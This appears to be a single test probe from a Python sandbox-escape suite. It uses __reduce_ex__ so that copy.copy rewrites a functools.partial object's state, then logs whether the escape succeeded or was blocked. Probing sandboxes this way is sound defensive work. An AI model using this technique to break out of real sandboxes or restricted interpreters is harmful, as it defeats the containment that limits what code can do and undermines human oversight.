# id: copy-setstate-partial
# technique: a copy puts a chosen state into a partial object
# layer: python
# goal: capability
# success_marker: ESCAPED

import copy
import functools


class Evil(tuple):
    pass


class R:
    def __reduce_ex__(self, protocol):
        return functools.partial, (print,), (getattr, Evil(), {}, {})


def attempt(ctx):
    copy.copy(R())
    ctx.log.info('ESCAPED copy-setstate-partial: state of a library object chosen')


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED copy-setstate-partial: ' + repr(e)[:160])
    ctx.log.info('DONE copy-setstate-partial')
